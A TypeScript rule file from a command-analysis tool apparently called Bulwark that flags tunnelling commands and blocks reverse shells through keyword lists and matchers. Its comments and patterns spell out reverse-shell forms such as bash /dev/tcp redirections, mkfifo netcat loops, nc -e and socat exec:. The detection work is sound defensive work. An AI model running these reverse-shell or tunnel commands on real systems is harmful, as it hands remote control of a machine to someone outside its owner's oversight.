/**
 * Tunnels and reverse shells.
 *
 * - `tunnel` (flag, any trust): port forwards and tunnelling services (ssh -R/-L/-D, autossh, plink,
 *   ngrok, cloudflared, chisel, frp, bore, dev tunnels, tailscale/zerotier joins, portproxy, socat
 *   relays, Tor). They expose the endpoint or the customer network to somewhere Bulwark cannot see.
 * - `reverse_shell` (block, any trust): a shell wired to a network socket (`nc -e`, `/dev/tcp`,
 *   `socat exec:`, mkfifo loops, scripted socket loops). That is remote control outside Bulwark.
 *
 * Allowed: `ssh user@host`, `nc -zv host 443` (port checks), plain connects and listeners.
 */
import type { Document, Word } from '../analysis/document';
import {
  argLowers,
  ChecksByName,
  FindingCollector,
  NeedleGroup,
  commandWord,
  docHas,
  docHasAny,
  optionValue,
  positionals,
  searchFirst,
  TEXT_FILTERS,
  type FindingSpec,
  type Invocation,
  writeTargets,
} from './command-match';
import type { RuleContext, RuleFamily } from './rule';

function tunnelSpec(ruleId: string, message: string): FindingSpec {
  return {
    code: 'tunnel',
    ruleId,
    standard: 'flag',
    extended: 'flag',
    message: `${message} Tunnels expose this machine or its network to a place Bulwark does not see; recorded for review.`,
  };
}
function shellSpec(ruleId: string, message: string): FindingSpec {
  return {
    code: 'reverse_shell',
    ruleId,
    standard: 'block',
    extended: 'block',
    message: `${message} A shell wired to a network socket gives someone remote control outside Bulwark's audit.`,
  };
}

/** Tunnelling programs and the sub-commands that only inspect or stop them (a Map: program names are untrusted text). */
const TUNNEL_TOOLS: ReadonlyMap<string, { label: string; passive?: readonly string[] }> = new Map([
  ['ngrok', { label: 'ngrok exposes a local port on a public URL', passive: ['version', 'help', '--version', 'update', 'diagnose'] }],
  ['cloudflared', { label: 'cloudflared runs a Cloudflare tunnel', passive: ['version', '--version', 'help', 'update', 'tail', 'list'] }],
  ['chisel', { label: 'chisel runs a TCP/SOCKS tunnel over HTTP' }],
  ['frpc', { label: 'frp client forwards local ports through a remote server', passive: ['verify', '-v', '--version'] }],
  ['frps', { label: 'frp server accepts port forwards', passive: ['verify', '-v', '--version'] }],
  ['bore', { label: 'bore exposes a local port through a relay' }],
  ['devtunnel', { label: 'Dev Tunnels expose a local port on a public URL', passive: ['list', 'show', 'delete', 'logout', 'user'] }],
  ['lt', { label: 'localtunnel exposes a local port on a public URL' }],
  ['loclx', { label: 'LocalXpose exposes a local port' }],
  ['pinggy', { label: 'Pinggy exposes a local port' }],
  ['zrok', { label: 'zrok shares a local service publicly' }],
  ['rathole', { label: 'rathole forwards ports through a remote server' }],
  ['gost', { label: 'gost runs a tunnel/proxy' }],
  ['ligolo-ng', { label: 'ligolo-ng runs a network pivot tunnel' }],
  ['ligolo', { label: 'ligolo runs a network pivot tunnel' }],
  ['revsocks', { label: 'revsocks runs a reverse SOCKS tunnel' }],
  ['iodine', { label: 'iodine tunnels IP over DNS' }],
  ['iodined', { label: 'iodine tunnels IP over DNS' }],
  ['dnscat2', { label: 'dnscat2 tunnels a session over DNS' }],
  ['ptunnel', { label: 'ptunnel tunnels TCP over ICMP' }],
  ['ptunnel-ng', { label: 'ptunnel tunnels TCP over ICMP' }],
  ['sshuttle', { label: 'sshuttle routes traffic through an SSH host' }],
  ['tor', { label: 'Tor routes traffic through an anonymity network', passive: ['--version', '--help'] }],
  ['psiphon', { label: 'Psiphon runs a circumvention tunnel' }],
  ['stunnel', { label: 'stunnel wraps connections in a TLS tunnel' }],
  ['3proxy', { label: '3proxy runs a proxy server' }],
  ['microsocks', { label: 'microsocks runs a SOCKS server' }],
]);

/** Sub-commands and options that only inspect, configure completion, or print help. */
const PASSIVE_ARGS = new Set([
  'list',
  'ls',
  'help',
  '-h',
  '--help',
  'version',
  '--version',
  '-v',
  '-V',
  'completion',
  'verify',
  'status',
  'info',
  'show',
  'logs',
  'tail',
  'update',
  'stop',
  'delete',
  'uninstall',
]);

/** Services that are tunnels; starting them is a tunnel too. */
const TUNNEL_SERVICES = [
  'tor',
  'cloudflared',
  'ngrok',
  'frpc',
  'frps',
  'chisel',
  'zerotier-one',
  'openvpn',
  'wg-quick',
  'autossh',
  'stunnel',
];

export const tunnelRules: RuleFamily = (doc: Document, _ctx: RuleContext) => {
  const out = new FindingCollector();
  // INVOCATION_CHECKS is at the end of this file: it names constants of the checks.
  INVOCATION_CHECKS.runOver(doc, out);
  checkDevTcp(doc, out);
  checkZshTcp(doc, out);
  checkFifoLoop(doc, out);
  checkPowerShellSocket(doc, out);
  checkPipelineToShell(doc, out);
  return out.findings;
};

/** `az network bastion tunnel`, `gcloud compute start-iap-tunnel`: a port of a cloud machine forwarded to this one. */
function checkCloudTunnels(inv: Invocation, out: FindingCollector): void {
  const words = positionals(inv.args).map((w) => w.lower);
  const path = inv.name === 'az' ? ['network', 'bastion', 'tunnel'] : ['compute', 'start-iap-tunnel'];
  if (path.every((p, i) => words[i] === p))
    out.add(tunnelSpec('tunnel.cloud', `${inv.name} forwards a port of a cloud machine to this one.`), [commandWord(inv)]);
}

const SSH_LIKE = new Set(['ssh', 'autossh', 'plink', 'klink', 'dbclient']);
const SSH_FORWARD_LETTERS = ['R', 'L', 'D', 'w'];

function checkSsh(inv: Invocation, out: FindingCollector): void {
  if (!SSH_LIKE.has(inv.name)) return;
  for (const w of inv.args) {
    const v = w.value;
    // Option clusters such as -NfR or -fN -L: case matters (-l is login, -L a forward).
    if (v.startsWith('-') && !v.startsWith('--') && v.length >= 2) {
      const letters = v.slice(1);
      for (const letter of SSH_FORWARD_LETTERS) {
        const at = letters.indexOf(letter);
        // Only flag letters that are option letters (before any value attached to another option).
        if (at >= 0 && /* letters before are flags */ [...letters.slice(0, at)].every((c) => 'NfTqvCgknxXAaYy46sEtMK'.includes(c))) {
          out.add(
            tunnelSpec(
              'tunnel.ssh.forward',
              `${inv.name} -${letter} sets up a ${letter === 'R' ? 'reverse (remote) port forward' : letter === 'L' ? 'local port forward' : letter === 'D' ? 'SOCKS proxy' : 'tun device tunnel'}.`,
            ),
            [commandWord(inv), w],
          );
          return;
        }
      }
    }
    // `-oRemoteForward=…` is `-o RemoteForward=…` written as one word.
    const l = w.lower.startsWith('-o') ? w.lower.slice(2) : w.lower;
    if (l.startsWith('remoteforward') || l.startsWith('localforward') || l.startsWith('dynamicforward') || l.startsWith('tunnel=')) {
      out.add(tunnelSpec('tunnel.ssh.forward', `${inv.name} sets up a port forward through an -o option.`), [commandWord(inv), w]);
      return;
    }
  }
  // autossh exists to keep tunnels up.
  if (inv.name === 'autossh' && inv.args.some((w) => w.value === '-N' || w.value === '-f')) {
    out.add(tunnelSpec('tunnel.autossh', 'autossh keeps a background SSH session (a persistent tunnel) alive.'), [commandWord(inv)]);
  }
}

function checkTunnelTools(inv: Invocation, out: FindingCollector): void {
  const tool = TUNNEL_TOOLS.get(inv.name);
  if (!tool) {
    if (inv.name === 'code' && inv.args[0]?.lower === 'tunnel') {
      out.add(tunnelSpec('tunnel.vscode', 'code tunnel exposes this machine through a VS Code remote tunnel.'), [
        commandWord(inv),
        inv.args[0],
      ]);
    }
    return;
  }
  // `-h` alone asks for help; among other options it is often a value option (`lt --port 8000 -h relay.example`).
  const passive = (w: Word): boolean => (w.lower === '-h' ? inv.args.length === 1 : PASSIVE_ARGS.has(w.lower));
  if (inv.args.some((w) => passive(w) || (tool.passive?.includes(w.lower) ?? false))) return;
  out.add(tunnelSpec(`tunnel.${inv.name}`, `${tool.label}.`), [commandWord(inv)]);
}

function checkTunnelServiceStart(inv: Invocation, out: FindingCollector): void {
  const lowers = argLowers(inv);
  let unit: Word | undefined;
  if (inv.name === 'systemctl' && (lowers.includes('start') || lowers.includes('enable') || lowers.includes('restart')))
    unit = inv.args.find((w) => isTunnelService(w.lower));
  else if (inv.name === 'service' && (lowers.includes('start') || lowers.includes('restart')))
    unit = inv.args.find((w) => isTunnelService(w.lower));
  else if (inv.name === 'start-service' && !lowers.includes('stop')) unit = inv.args.find((w) => isTunnelService(w.lower));
  // `sc query cloudflared` only looks: sc and net need a verb that starts, creates or reconfigures the service.
  else if (
    (inv.name === 'sc' && (lowers.includes('start') || lowers.includes('create') || lowers.includes('config'))) ||
    (inv.name === 'net' && lowers.includes('start'))
  )
    unit = inv.args.find((w) => isTunnelService(w.lower));
  else if (inv.name === 'sysrc')
    unit = inv.args.find((w) => TUNNEL_SERVICES.some((t) => w.lower.startsWith(t + '_enable=')) && w.lower.includes('yes'));
  if (unit) out.add(tunnelSpec('tunnel.service', `Starts or enables the tunnel service "${unit.value}".`), [commandWord(inv), unit]);
}

function isTunnelService(name: string): boolean {
  let n = name.endsWith('.service') ? name.slice(0, -8) : name;
  const at = n.indexOf('@');
  if (at > 0) n = n.slice(0, at);
  return TUNNEL_SERVICES.includes(n);
}

function checkVpnJoins(inv: Invocation, out: FindingCollector): void {
  const first = inv.args[0]?.lower;
  if (inv.name === 'tailscale') {
    const joins =
      first === 'up' ||
      first === 'login' ||
      first === 'funnel' ||
      first === 'serve' ||
      (first === 'set' && inv.args.some((w) => w.lower.startsWith('--exit-node') || w.lower.startsWith('--advertise')));
    if (joins)
      out.add(
        tunnelSpec('tunnel.tailscale', `tailscale ${first} joins a tailnet, exposes a service or routes traffic through another node.`),
        [commandWord(inv), inv.args[0]],
      );
  } else if (
    (inv.name === 'netbird' || inv.name === 'headscale' || inv.name === 'nebula') &&
    (first === 'up' || first === 'login' || (inv.name === 'nebula' && inv.args.some((w) => w.lower === '-config')))
  ) {
    // WireGuard mesh VPNs like tailscale: joining one puts this machine on a network someone else controls.
    out.add(tunnelSpec('tunnel.mesh-vpn', `${inv.name} joins this machine to a mesh VPN, a network someone else may control.`), [
      commandWord(inv),
      inv.args[0],
    ]);
  } else if (inv.name === 'zerotier-cli' && first === 'join') {
    out.add(tunnelSpec('tunnel.zerotier', 'zerotier-cli join connects this machine to a ZeroTier network.'), [
      commandWord(inv),
      inv.args[0],
    ]);
  } else if (inv.name === 'wg-quick' && first === 'up') {
    out.add(tunnelSpec('tunnel.wireguard', 'wg-quick up brings up a WireGuard tunnel.'), [commandWord(inv), inv.args[0]]);
  } else if (
    inv.name === 'openvpn' &&
    // A configuration (`--config x`, or a bare file name: `openvpn client.conf`) or a remote starts a VPN; `--genkey`, `--show-*` and help do not.
    inv.args.some((w) => w.lower === '--config' || w.lower === '--remote' || w.lower.endsWith('.ovpn') || !w.lower.startsWith('-')) &&
    !inv.args.some((w) => w.lower === '--genkey' || w.lower.startsWith('--show-') || w.lower === '--help' || w.lower === '--version')
  ) {
    out.add(tunnelSpec('tunnel.openvpn', 'openvpn connects this machine to a VPN.'), [commandWord(inv)]);
  }
}

const NETCATS = new Set(['nc', 'nc64', 'nc32', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'busybox']);

function checkNetcat(inv: Invocation, out: FindingCollector, doc: Document): void {
  if (!NETCATS.has(inv.name)) return;
  if (inv.name === 'busybox' && inv.args[0]?.lower !== 'nc') return;
  const exec = inv.args.find(
    (w) =>
      w.value === '-e' ||
      w.value === '-c' ||
      w.lower === '--exec' ||
      w.lower === '--sh-exec' ||
      w.lower === '--lua-exec' ||
      (w.value.startsWith('-') && !w.value.startsWith('--') && w.value.length > 2 && w.value.includes('e') && !w.value.includes('z')),
  );
  if (exec) {
    out.add(
      shellSpec(
        'shell.netcat-exec',
        `${inv.name} ${exec.value} runs a program with its input and output wired to the network connection (a reverse or bind shell).`,
      ),
      [commandWord(inv), exec],
    );
    return;
  }
  // `nc -l -p 8080 | nc host 22`: a relay between a listener and another host.
  const pipeline = doc.pipelines[inv.command.pipeline];
  if (pipeline && pipeline.length > 1 && inv.command.position === 0 && inv.args.some((w) => w.value === '-l' || w.value.startsWith('-l'))) {
    const next = doc.commands[pipeline[1]!];
    if (next && NETCATS.has(next.name))
      out.add(tunnelSpec('tunnel.netcat-relay', 'Two netcat processes relay a listening port to another host.'), [
        commandWord(inv),
        next.span,
      ]);
  }
}

function checkSocat(inv: Invocation, out: FindingCollector): void {
  if (inv.name !== 'socat') return;
  const exec = inv.args.find(
    (w) => w.lower.startsWith('exec:') || w.lower.startsWith('system:') || w.lower.includes(',exec:') || w.lower.startsWith('"exec:'),
  );
  if (exec) {
    out.add(shellSpec('shell.socat-exec', 'socat connects a program (EXEC:/SYSTEM:) to a network address.'), [commandWord(inv), exec]);
    return;
  }
  const network = inv.args.filter((w) => isSocatNetworkAddress(w));
  if (network.length >= 2) {
    out.add(tunnelSpec('tunnel.socat-relay', 'socat relays one network address to another (a port forward).'), [
      commandWord(inv),
      network[0],
      network[1],
    ]);
  }
}

function isSocatNetworkAddress(w: Word): boolean {
  const l = w.lower;
  return [
    'tcp',
    'tcp4',
    'tcp6',
    'udp',
    'udp4',
    'udp6',
    'openssl',
    'tcp-listen',
    'tcp4-listen',
    'tcp6-listen',
    'udp-listen',
    'openssl-listen',
    'sctp',
    'socks4',
    'socks4a',
    'proxy',
  ].some((p) => l.startsWith(p + ':'));
}

function checkPortProxy(inv: Invocation, out: FindingCollector): void {
  const lowers = argLowers(inv);
  if (inv.name === 'netsh' && lowers.includes('portproxy') && (lowers.includes('add') || lowers.includes('set'))) {
    out.add(tunnelSpec('tunnel.portproxy', 'netsh interface portproxy forwards a local port to another address.'), [commandWord(inv)]);
  } else if (
    (inv.name === 'firewall-cmd' && inv.args.some((w) => w.lower.includes('forward-port'))) ||
    ((inv.name === 'iptables' || inv.name === 'nft') && lowers.some((l) => l === 'dnat' || l.startsWith('--to-destination')))
  ) {
    out.add(tunnelSpec('tunnel.port-forward', `${inv.name} forwards a port to another address.`), [commandWord(inv)]);
  } else if (inv.name === 'add-netnatstaticmapping') {
    out.add(tunnelSpec('tunnel.port-forward', 'Add-NetNatStaticMapping forwards a port to another address.'), [commandWord(inv)]);
  }
}

const INTERPRETERS = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'php', 'node', 'lua', 'awk', 'gawk', 'irb', 'jrunscript']);
const SOCKET_MARKERS = ['socket', 'fsockopen', 'tcpsocket', '/inet/tcp', 'net.connect', 'net.socket', 'io::socket'];
const EXEC_MARKERS = [
  'dup2',
  'pty.spawn',
  'subprocess',
  '/bin/sh',
  '/bin/bash',
  'cmd.exe',
  'exec(',
  'exec ',
  'spawn(',
  'popen',
  'system(',
  'child_process',
  'proc_open',
  'shell_exec',
  '|&',
];

/** One-line reverse shells in script interpreters (python -c 'import socket,os,pty …'). */
function checkInterpreterSocket(inv: Invocation, out: FindingCollector): void {
  if (!INTERPRETERS.has(inv.name) && !(inv.name.startsWith('python') && inv.name.length <= 10)) return;
  for (const w of inv.args) {
    const l = w.lower;
    if (l.length < 16) continue;
    if (SOCKET_MARKERS.some((m) => l.includes(m)) && EXEC_MARKERS.some((m) => l.includes(m))) {
      out.add(shellSpec('shell.interpreter-socket', `${inv.name} opens a socket and attaches a shell or process to it.`), [
        commandWord(inv),
        w,
      ]);
      return;
    }
  }
}

/** A command other than a text search names `/dev/tcp/…` or `/dev/udp/…` (as a word or a redirect target). */
function opensNetworkDevice(doc: Document): boolean {
  for (const cmd of doc.commands) {
    // echo and printf count: what they print may be a cron line or a script (`(crontab -l; echo "…") | crontab -`).
    if (TEXT_FILTERS.has(cmd.name)) continue;
    for (const w of cmd.words) if (namesNetworkDevice(w.value)) return true;
    for (const r of cmd.redirects) if (namesNetworkDevice(r.target.value)) return true;
  }
  return false;
}

function namesNetworkDevice(value: string): boolean {
  return value.includes('/dev/tcp/') || value.includes('/dev/udp/');
}

// The first keyword lists of the whole-text checks below, asked about for every text.
const DEV_TCP_NEEDLES = new NeedleGroup(['/dev/tcp/', '/dev/udp/']);
const FIFO_NEEDLES = new NeedleGroup(['mkfifo', 'mknod']);
const DOTNET_SOCKET_NEEDLES = new NeedleGroup(['sockets.tcpclient', 'sockets.tcplistener', 'net.sockets.socket', 'sockets.udpclient']);

/** bash /dev/tcp redirections wired to a shell (`bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/…`). */
function checkDevTcp(doc: Document, out: FindingCollector): void {
  const dev = docHasAny(doc, DEV_TCP_NEEDLES);
  if (!dev || !opensNetworkDevice(doc)) return;
  const wiring = docHasAny(doc, [
    '0>&1',
    '0<&',
    '>&0',
    '<&0',
    'sh -i',
    'bash -i',
    '<>/dev/',
    '<> /dev/',
    '<&3',
    '<&5',
    '<&196',
    '| sh',
    '|sh',
    '| bash',
    '|bash',
    '/bin/sh',
    '/bin/bash',
  ]);
  if (!wiring) return;
  out.add(shellSpec('shell.dev-tcp', `The shell's ${dev} device connects a shell to a remote host.`), searchFirst(doc, dev, wiring));
}

/** `mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f` and friends. */
function checkFifoLoop(doc: Document, out: FindingCollector): void {
  const fifo = docHasAny(doc, FIFO_NEEDLES);
  if (!fifo) return;
  const net = docHasAny(doc, ['nc ', 'ncat ', 'netcat ', 'telnet ', 'openssl s_client', 'socat ']);
  // The shell is named in the text, or is a command the analysis resolved to one (`$SHELL -i`, `"$BASH"`).
  const shell =
    docHasAny(doc, ['sh -i', 'bash -i', '/bin/sh', '/bin/bash', '| sh', '|sh']) ?? doc.commands.some((c) => SHELL_NAMES.has(c.name));
  if (net && shell)
    out.add(shellSpec('shell.fifo-loop', 'A named pipe loops a shell through a network connection.'), searchFirst(doc, fifo, net));
}

/** PowerShell TCP client/listener loops that execute what they receive (Invoke-PowerShellTcp style). */
function checkPowerShellSocket(doc: Document, out: FindingCollector): void {
  const sock = docHasAny(doc, DOTNET_SOCKET_NEEDLES);
  if (!sock || !docHas(doc, 'getstream')) return;
  // TLS (SslStream) only wraps the stream: reverse shells use it too, but it runs nothing.
  const exec = docHasAny(doc, ['invoke-expression', 'iex', 'out-string', 'sendback', 'cmd.exe', 'start-process']);
  // A TLS handshake that only reads the peer's certificate (an expiry check) exchanges no data of its own.
  const certificateProbe =
    docHas(doc, 'remotecertificate') && !docHasAny(doc, ['.read(', '.write(', '.readline(', 'streamreader', 'streamwriter']);
  if (!exec && certificateProbe) return;
  if (exec) {
    out.add(
      shellSpec(
        'shell.powershell-socket',
        'A PowerShell script reads commands from a TCP stream and sends results back (a scripted reverse shell).',
      ),
      searchFirst(doc, sock, 'getstream', exec),
    );
  } else {
    out.add(tunnelSpec('tunnel.powershell-socket', 'A PowerShell script opens a raw TCP stream to another host.'), searchFirst(doc, sock));
  }
}

const SHELL_NAMES = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'cmd', 'powershell', 'pwsh']);
const NET_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'telnet', 'openssl', 'socat']);

/** `telnet h 1 | /bin/sh | telnet h 2`, `openssl s_client … | /bin/sh`: network output fed to a shell. */
function checkPipelineToShell(doc: Document, out: FindingCollector): void {
  for (const p of doc.pipelines) {
    if (!p || p.length < 2) continue;
    // Most pipelines have no network client: nothing is allocated for them.
    let netAt = -1;
    for (let k = 0; k < p.length && netAt < 0; k++) {
      const c = doc.commands[p[k]!]!;
      if (NET_CLIENTS.has(c.name) && (c.name !== 'openssl' || c.words.some((w) => w.lower === 's_client'))) netAt = k;
    }
    if (netAt < 0) continue;
    const cmds = p.map((i) => doc.commands[i]!);
    const shell = cmds.slice(netAt + 1).find((c) => SHELL_NAMES.has(c.name));
    if (shell)
      out.add(shellSpec('shell.network-pipe', `Output of a network connection (${cmds[netAt]!.name}) is fed to a shell.`), [
        cmds[netAt]!.span,
        shell.span,
      ]);
  }
}

/**
 * Tunnel agents recognised by their switches, because they are usually renamed (`./agent`, `./npc`):
 * ligolo-ng's agent and the nps client. Keys are switches, values the switches that complete the set.
 */
const TUNNEL_SWITCH_SETS: ReadonlyMap<string, { label: string; partners: readonly string[] }> = new Map([
  [
    '-connect',
    { label: 'a ligolo-ng agent connects back to its proxy to pivot into this network', partners: ['-ignore-cert', '-accept-fingerprint'] },
  ],
  ['-server=', { label: 'an nps client (npc) forwards local ports through a remote server', partners: ['-vkey='] }],
]);

function checkTunnelSwitches(inv: Invocation, out: FindingCollector): void {
  for (const w of inv.args) {
    const l = w.lower;
    if (l.charCodeAt(0) !== 45 /* - */) continue;
    const eq = l.indexOf('=');
    const set = TUNNEL_SWITCH_SETS.get(eq > 0 ? l.slice(0, eq + 1) : l);
    if (!set) continue;
    const partner = inv.args.find((a) =>
      set.partners.some((p) => (p.endsWith('=') ? a.lower.startsWith(p) : a.lower === p || a.lower.startsWith(p + '='))),
    );
    if (partner) {
      out.add(tunnelSpec('tunnel.agent-switches', `Its switches show that ${set.label}.`), [commandWord(inv), w, partner]);
      return;
    }
  }
}

/** Packages that package runners (`npx localtunnel --port 3000`) fetch and start as tunnels. */
const TUNNEL_PACKAGES = new Set(['localtunnel', 'ngrok', '@ngrok/ngrok', 'cloudflared', 'untun', 'bore-cli', 'tunnelmole', 'zrok']);
const PACKAGE_RUNNERS = new Set(['npx', 'bunx', 'pnpx']);

function checkPackageRunnerTunnel(inv: Invocation, out: FindingCollector): void {
  let i = 0;
  // `pnpm dlx pkg`, `yarn dlx pkg`, `npm exec pkg`.
  if (!PACKAGE_RUNNERS.has(inv.name)) {
    if (inv.args[0]?.lower !== 'dlx' && inv.args[0]?.lower !== 'exec') return;
    i = 1;
  }
  while (i < inv.args.length && inv.args[i]!.lower.startsWith('-')) i++;
  const pkg = inv.args[i];
  if (!pkg) return;
  const at = pkg.lower.lastIndexOf('@');
  const name = at > 0 ? pkg.lower.slice(0, at) : pkg.lower;
  if (TUNNEL_PACKAGES.has(name))
    out.add(tunnelSpec('tunnel.package-runner', `${inv.name} runs the tunnel package ${name}, which exposes a local port publicly.`), [
      commandWord(inv),
      pkg,
    ]);
}

const LOOPBACK_ADDRESSES = new Set(['localhost', '127.0.0.1', '::1']);

/** ssh client configuration files: a forward written there applies to every later connection to the host. */
const SSH_CONFIG_FILES = ['.ssh/config', '/etc/ssh/ssh_config', '/etc/ssh/ssh_config.d/'];
const SSH_FORWARD_KEYWORDS = ['remoteforward', 'localforward', 'dynamicforward'];

/**
 * `cat >> ~/.ssh/config <<EOF … RemoteForward 2222 localhost:22 … EOF`, `echo 'RemoteForward …' >> ~/.ssh/config`:
 * a port forward stored in the ssh configuration, set up by the next plain `ssh host`.
 */
function checkSshConfigForward(inv: Invocation, out: FindingCollector): void {
  const target = writeTargets(inv).find((t) => SSH_CONFIG_FILES.some((f) => t.lower.replaceAll('\\', '/').includes(f)));
  if (!target) return;
  const written = [...inv.args.map((w) => w.lower), ...inv.command.redirects.filter((r) => r.heredoc).map((r) => r.target.lower)];
  const keyword = SSH_FORWARD_KEYWORDS.find((k) => written.some((text) => text.includes(k)));
  if (keyword)
    out.add(tunnelSpec('tunnel.ssh-config', `Writes a ${keyword} into the ssh configuration (${target.value}): a standing port forward.`), [
      commandWord(inv),
      target,
    ]);
}

/**
 * `kubectl port-forward pod 5000:5000` forwards a cluster port to this machine (flagged like `ssh -L`); with `--address 0.0.0.0`
 * it listens on every interface. `kubectl proxy` does the same for the cluster's API.
 */
function checkKubectlPortForward(inv: Invocation, out: FindingCollector): void {
  const verb = inv.args.find((w) => w.lower === 'port-forward' || w.lower === 'proxy');
  if (!verb || inv.args.some((w) => w.lower === '--help' || w.lower === '-h')) return;
  const address = optionValue(inv.args, 'address');
  const everywhere = address !== undefined && !address.lower.split(',').every((a) => LOOPBACK_ADDRESSES.has(a));
  const what = verb.lower === 'proxy' ? 'the cluster API' : 'a cluster port';
  out.add(
    tunnelSpec(
      'tunnel.kubectl-port-forward',
      everywhere
        ? `${inv.name} ${verb.value} --address ${address.value} opens ${what} to other machines.`
        : `${inv.name} ${verb.value} forwards ${what} to this machine.`,
    ),
    [commandWord(inv), verb, everywhere ? address : undefined],
  );
}

/**
 * `aws ssm start-session --target i-… --document-name AWS-StartPortForwardingSession[ToRemoteHost]`: the Session Manager
 * agent forwards a local port to the instance or, through it, to another host (the cloud's `ssh -L`). Any document
 * whose name says port forwarding counts, the customer's own copies included.
 */
function checkSsmPortForward(inv: Invocation, out: FindingCollector): void {
  if (!inv.args.some((w) => w.lower === 'start-session')) return;
  const document = optionValue(inv.args, 'document-name');
  if (!document || !document.lower.includes('portforwarding')) return;
  out.add(
    tunnelSpec(
      'tunnel.ssm-port-forward',
      `${inv.name} ssm start-session with ${document.value} forwards a port through the Session Manager agent.`,
    ),
    [commandWord(inv), document],
  );
}

// `zmodload zsh/net/tcp; ztcp host port` opens a socket whose descriptor zsh leaves in $REPLY.
const ZTCP_NEEDLES = new NeedleGroup(['ztcp ']);
const VARIABLE_FD_REDIRECTS = new NeedleGroup(['>&$', '<&$']);

/** zsh's ztcp socket wired to a shell through descriptor redirections (`zsh >&$REPLY 0>&$REPLY`). */
function checkZshTcp(doc: Document, out: FindingCollector): void {
  if (!docHasAny(doc, ZTCP_NEEDLES)) return;
  const wiring = docHasAny(doc, VARIABLE_FD_REDIRECTS);
  if (!wiring) return;
  out.add(
    shellSpec('shell.zsh-ztcp', "zsh's ztcp opens a network socket and a shell's input and output are redirected to it."),
    searchFirst(doc, 'ztcp ', wiring),
  );
}

/** The per-invocation checks, in order, each with the programs it acts on (none: every program). */
const INVOCATION_CHECKS = new ChecksByName([
  { check: checkSsh, names: SSH_LIKE },
  { check: checkCloudTunnels, names: ['az', 'gcloud'] },
  { check: checkTunnelTools, names: [...TUNNEL_TOOLS.keys(), 'code'] },
  { check: checkVpnJoins, names: ['tailscale', 'zerotier-cli', 'wg-quick', 'openvpn', 'netbird', 'headscale', 'nebula'] },
  { check: checkNetcat, names: NETCATS },
  { check: checkSocat, names: ['socat'] },
  { check: checkPortProxy, names: ['netsh', 'firewall-cmd', 'iptables', 'nft', 'add-netnatstaticmapping'] },
  // Any python* name (python3.12) counts as an interpreter.
  { check: checkInterpreterSocket },
  { check: checkTunnelServiceStart, names: ['systemctl', 'service', 'start-service', 'sc', 'net', 'sysrc'] },
  // Renamed agents are found by their switches, whatever the program is called.
  { check: checkTunnelSwitches },
  { check: checkPackageRunnerTunnel, names: [...PACKAGE_RUNNERS, 'pnpm', 'yarn', 'npm'] },
  { check: checkKubectlPortForward, names: ['kubectl', 'oc', 'microk8s.kubectl'] },
  { check: checkSsmPortForward, names: ['aws'] },
  { check: checkSshConfigForward, names: ['cat', 'echo', 'printf', 'tee', 'add-content', 'set-content', 'out-file', 'ac'] },
]);
